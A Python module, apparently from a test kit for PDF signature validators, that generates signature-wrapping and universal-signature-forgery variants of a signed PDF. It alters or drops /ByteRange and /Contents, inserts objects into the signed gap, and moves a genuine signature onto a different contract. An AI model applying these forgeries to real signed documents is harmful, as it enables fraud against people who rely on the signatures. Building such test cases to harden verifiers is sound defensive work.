"""Signature wrapping (SWA) and universal signature forgery (USF): the signature dictionary
rewritten by hand, its /ByteRange moved or widened, its /Contents or /ByteRange dropped, or a
genuine signature container transplanted onto another document."""

from __future__ import annotations

import io
import re
from collections.abc import Callable

from pyhanko.pdf_utils.reader import PdfFileReader

from .kit import Kit, append_revision, last_startxref, object_text, plain_pdf, signature_ref


def swa_byte_range_moved(kit: Kit) -> bytes:
    """The signature object is redefined with a /ByteRange whose second part starts later; new
    objects are put in the gap between /Contents and the (moved) signed second part."""
    data = kit.sealed
    ref = signature_ref(data)
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    sig = reader.get_object(ref)
    start, first_len, second_start, second_len = (int(x) for x in sig["/ByteRange"])
    malicious = b"\n99 0 obj\n<< /Length 10 >>\nstream\nBT ET q Q\nendstream\nendobj\n"
    wrapped = data[:second_start] + malicious + data[second_start:]
    shift = len(malicious)
    body = object_text(data, ref)
    body = re.sub(
        rb"/ByteRange\s*\[[^\]]*\]",
        b"/ByteRange [%d %d %d %d]" % (start, first_len, second_start + shift, second_len),
        body,
    )
    # The moved part keeps its old startxref offsets; a new revision redefines the signature object.
    return append_revision(wrapped, {ref.idnum: body}, prev=last_startxref(data) + shift, like=data)


def swa_contents_padded(kit: Kit) -> bytes:
    """/Contents widened: the gap in /ByteRange holds more than the hex string of the signature."""
    data = kit.sealed
    ref = signature_ref(data)
    reader = PdfFileReader(io.BytesIO(data), strict=False)
    start, first_len, second_start, second_len = (int(x) for x in reader.get_object(ref)["/ByteRange"])
    body = object_text(data, ref)
    body = re.sub(
        rb"/ByteRange\s*\[[^\]]*\]",
        b"/ByteRange [%d %d %d %d]" % (start, first_len - 40, second_start, second_len),
        body,
    )
    return append_revision(data, {ref.idnum: body})


# --- universal signature forgery (USF) -------------------------------------------------------------


def _sig_rewritten(kit: Kit, edit: Callable[[bytes], bytes]) -> bytes:
    ref = signature_ref(kit.sealed)
    return append_revision(kit.sealed, {ref.idnum: edit(object_text(kit.sealed, ref))})


def usf_contents_removed(kit: Kit) -> bytes:
    return _sig_rewritten(kit, lambda body: re.sub(rb"/Contents\s*<[0-9a-fA-F]*>", b"", body))


def usf_contents_empty(kit: Kit) -> bytes:
    return _sig_rewritten(kit, lambda body: re.sub(rb"/Contents\s*<[0-9a-fA-F]*>", b"/Contents <>", body))


def usf_byte_range_removed(kit: Kit) -> bytes:
    return _sig_rewritten(kit, lambda body: re.sub(rb"/ByteRange\s*\[[^\]]*\]", b"", body))


def usf_byte_range_null(kit: Kit) -> bytes:
    return _sig_rewritten(kit, lambda body: re.sub(rb"/ByteRange\s*\[[^\]]*\]", b"/ByteRange null", body))


def usf_byte_range_zero(kit: Kit) -> bytes:
    return _sig_rewritten(
        kit, lambda body: re.sub(rb"/ByteRange\s*\[[^\]]*\]", b"/ByteRange [0 0 0 0]", body)
    )


def usf_signature_transplanted(kit: Kit) -> bytes:
    """A genuine signature container copied onto another document (no key needed)."""
    other = kit.seal(plain_pdf("Contract amount: 900 CNY"))
    hex_contents = re.search(rb"/Contents\s*<([0-9a-fA-F]+)>", kit.sealed)
    target = bytearray(other)
    match = re.search(rb"/Contents\s*<([0-9a-fA-F]+)>", other)
    assert hex_contents and match
    theirs = hex_contents.group(1)
    room = match.end(1) - match.start(1)
    target[match.start(1) : match.end(1)] = theirs[:room].ljust(room, b"0")
    return bytes(target)
